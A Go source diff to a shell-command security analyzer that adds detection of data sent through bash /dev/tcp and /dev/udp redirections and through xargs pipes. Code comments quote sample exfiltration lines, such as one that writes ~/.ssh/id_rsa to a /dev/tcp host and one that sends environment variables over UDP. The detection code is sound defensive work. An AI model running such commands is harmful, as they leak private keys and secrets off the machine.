@@ -37,6 +37,10 @@ type Env struct {
 	// FromPipe says stdin comes from another command of the same pipeline
 	// whose output is not known (xargs turns it into arguments).
 	FromPipe bool
+	// PipedData, when not empty, is the secret the command's input carries
+	// ("environment", "secret file PATH"; see FromPipe): xargs turns it into
+	// arguments, so whatever the command sends off the machine carries it.
+	PipedData string
 	// Understood, when set, reports a script file (absolute path) whose
 	// whole body the rule pass has read and allows: running it is known.
 	Understood func(abs string) bool
@@ -60,6 +64,29 @@ func Analyze(c *shell.Command, env Env) *Record {
 	r := &Record{Program: c.Name}
 	a := analysis{c: c, env: env, r: r}
 	a.run()
+	for i := range r.Network {
+		if n := &r.Network[i]; n.Sends == outputSent {
+			// env > /dev/udp/203.0.113.9/53, cat ~/.ssh/id_rsa > /dev/tcp/…:
+			// what the command prints is what goes.
+			if (c.Name == "env" || c.Name == "printenv") && len(c.Args) == 0 {
+				n.Sends = "environment"
+			}
+			for _, f := range r.Files {
+				if f.Op == OpRead && has(f.Classes, ClassSecret) {
+					n.Sends = "secret file " + f.Path
+				}
+			}
+		}
+	}
+	if env.PipedData != "" && env.FromPipe {
+		// env | xargs -I% curl "https://…/?v=%": the input becomes the
+		// arguments, so what goes off the machine carries it.
+		for i := range r.Network {
+			if n := &r.Network[i]; !n.Local && n.Sends == "" && !n.scanned {
+				n.Sends = env.PipedData
+			}
+		}
+	}
 	return r
 }
 
@@ -411,13 +438,44 @@ func (a *analysis) writesNothing() bool {
 	case "", ":", "true", "false":
 		return true
 	case "cat":
-		return len(args) == 1 && args[0] == "/dev/null"
+		return len(args) == 1 && args[0] == "/dev/null" || len(args) == 0 && stdinIsNull(c)
 	case "echo":
 		return len(args) == 1 && args[0] == "-n" || len(args) == 2 && args[0] == "-n" && args[1] == ""
 	case "printf":
 		return len(args) == 1 && args[0] == ""
 	}
 	return false
+}
+
+// outputSent is what a command sends through a /dev/tcp redirection: its
+// output.
+const outputSent = "the command's output"
+
+// descriptorSent is what a connection opened with exec N>/dev/tcp/… sends:
+// whatever later commands write to the descriptor.
+const descriptorSent = "what later commands write to the descriptor"
+
+// stdinIsNull reports a command whose input is redirected from /dev/null
+// (cat < /dev/null writes nothing).
+func stdinIsNull(c *shell.Command) bool {
+	for _, rd := range c.Redirects {
+		if rd.Op == "<" && rd.Target == "/dev/null" {
+			return true
+		}
+	}
+	return false
+}
+
+// devNetPath splits bash's /dev/tcp/HOST/PORT and /dev/udp/HOST/PORT
+// pseudo-paths into the protocol and HOST:PORT.
+func devNetPath(p string) (proto, hostPort string, ok bool) {
+	for _, proto := range []string{"tcp", "udp"} {
+		if rest, found := strings.CutPrefix(p, "/dev/"+proto+"/"); found {
+			host, port, _ := strings.Cut(rest, "/")
+			return proto, host + ":" + port, host != ""
+		}
+	}
+	return "", "", false
 }
 
 // remoteModule records go run MODULE@VERSION: code fetched from the
@@ -1976,6 +2034,19 @@ func (a *analysis) redirects() {
 	for _, rd := range a.c.Redirects {
 		t := rd.Target
 		if t == "" || t == "-" || text.Digits(strings.TrimPrefix(t, "&")) {
+			continue
+		}
+		if proto, hostPort, ok := devNetPath(t); ok {
+			// bash's /dev/tcp/HOST/PORT is a connection, not a file: what the
+			// command writes there is sent (nothing for a port probe).
+			sends := ""
+			switch {
+			case strings.Contains(rd.Op, ">") && a.c.Name == "exec" && len(a.c.Args) == 0:
+				sends = descriptorSent // exec 3>/dev/udp/…/53; env >&3
+			case strings.Contains(rd.Op, ">") && !a.writesNothing():
+				sends = outputSent
+			}
+			a.network(proto+"://"+hostPort, sends)
 			continue
 		}
 		switch {
